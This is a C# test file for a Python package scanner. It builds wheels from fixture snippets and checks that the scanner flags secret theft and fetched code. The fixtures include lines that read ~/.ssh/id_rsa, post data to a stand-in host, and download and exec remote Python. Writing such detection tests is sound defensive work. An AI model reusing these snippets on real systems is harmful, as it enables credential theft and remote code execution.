using System.Text;
using Bonded.Testing.Packages;

namespace Bonded.Inspection.Tests.Rules;

/// <summary>
/// Every way that loot is found, carried and sent, and that code is fetched and run, one at a time: the way that is tried is new, all the rest
/// is the plainest there is. What is marked <c>not followed</c> is a limit that is known. Where nothing is stolen, the same ways are left alone.
/// </summary>
public sealed class FlowTests
{
    const string Sent = "\nimport urllib.request as _u\n_u.urlopen('http://c.example.invalid/x', data=str(data).encode())\n";
    const string Key = "import os\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";
    const string Fetched = "import urllib.request\np = urllib.request.urlopen('http://c.example.invalid/p.py').read()\n";

    public static TheoryData<string> Sources => Names("sources");

    public static TheoryData<string> Carriers => Names("carriers");

    public static TheoryData<string> Sinks => Names("sinks");

    public static TheoryData<string> Fetches => Names("fetches");

    public static TheoryData<string> Runs => Names("runs");

    public static TheoryData<string> Encodings => Names("encodings");

    public static TheoryData<string> Commands => Names("commands");

    [Theory, MemberData(nameof(Sources))]
    public void Loot_of_every_kind_is_seen_when_it_is_sent(string name)
    {
        Holds("sources", name, code => code + Sent);
        LeavesAlone("sources", name, code => code + "\nprint(len(str(data)))\n", rule => rule.EndsWith("-sent", StringComparison.Ordinal));
    }

    [Theory, MemberData(nameof(Carriers))]
    public void Loot_is_followed_however_it_is_carried(string name)
    {
        Holds("carriers", name, code => code);
        LeavesAlone("carriers", name, code => code.Replace("~/.ssh/id_rsa", "~/notes.txt", StringComparison.Ordinal).Replace("~/.aws/credentials", "~/more.txt", StringComparison.Ordinal).Replace("~/.npmrc", "~/most.txt", StringComparison.Ordinal), rule => rule == "secrets-sent");
    }

    [Theory, MemberData(nameof(Sinks))]
    public void Loot_is_seen_wherever_it_is_sent(string name)
    {
        Holds("sinks", name, code => Key + code);
        LeavesAlone("sinks", name, code => "import os\nd = 'hello'\n" + code.Replace("~/.ssh/id_rsa", "~/notes.txt", StringComparison.Ordinal).Replace("~/.ssh", "~/notes", StringComparison.Ordinal), rule => rule is "secrets-sent" or "dns-exfiltration" or "files-sent");
    }

    [Theory, MemberData(nameof(Fetches))]
    public void Code_is_seen_however_it_is_fetched(string name)
    {
        Holds("fetches", name, code => code + "\nexec(p)\n");
        LeavesAlone("fetches", name, code => code + "\nprint(len(p))\n", rule => rule == "fetched-code");
    }

    [Theory, MemberData(nameof(Runs))]
    public void What_was_fetched_is_seen_however_it_is_run(string name) => Holds("runs", name, code => Fetched + code);

    [Theory, MemberData(nameof(Encodings))]
    public void Code_is_seen_however_it_is_hidden(string name) => Holds("encodings", name, code => code);

    [Theory, MemberData(nameof(Commands))]
    public void Commands_are_seen_however_they_are_started(string name) => Holds("commands", name, code => code);

    static void Holds(string file, string name, Func<string, string> complete)
    {
        var findings = Find(file, name, complete);
        Assert.True(findings.Any(finding => finding.Strength == Strength.High) != name.EndsWith("| not followed", StringComparison.Ordinal), Fixture.Describe(findings));
    }

    static void LeavesAlone(string file, string name, Func<string, string> complete, Func<string, bool> minds)
    {
        var findings = Find(file, name, complete);
        Assert.True(!findings.Any(finding => finding.Strength == Strength.High && minds(finding.Rule)), Fixture.Describe(findings));
    }

    static IReadOnlyList<Finding> Find(string file, string name, Func<string, string> complete)
    {
        var wheel = new WheelBuilder("flow", "1.0");
        foreach (var (path, code) in Load(file)[name])
            wheel.With("flow/" + path, Encoding.UTF8.GetBytes(complete(code)));
        return [.. wheel.Inspect().Findings];
    }

    static TheoryData<string> Names(string file) => [.. Load(file).Keys];

    static readonly Dictionary<string, Dictionary<string, List<(string Path, string Code)>>> Loaded = [];

    // Cases are parted by lines such as "=== name", their modules by lines such as "--- path".
    static Dictionary<string, List<(string Path, string Code)>> Load(string file)
    {
        lock (Loaded)
        {
            if (Loaded.TryGetValue(file, out var known))
                return known;
            using var stream = typeof(FlowTests).Assembly.GetManifestResourceStream($"Flows/{file}.txt")!;
            using var reader = new StreamReader(stream);
            var cases = new Dictionary<string, List<(string, string)>>(StringComparer.Ordinal);
            foreach (var part in reader.ReadToEnd().Split("\n=== ").Skip(1))
            {
                var (name, rest) = Cut(part);
                cases.Add(name, rest.StartsWith("--- ", StringComparison.Ordinal) ? [.. ('\n' + rest).Split("\n--- ").Skip(1).Select(Cut)] : [("__init__.py", rest)]);
            }

            Loaded.Add(file, cases);
            return cases;
        }
    }

    static (string Path, string Code) Cut(string text)
    {
        var end = text.IndexOf('\n', StringComparison.Ordinal);
        return (text[..end], text[(end + 1)..]);
    }
}
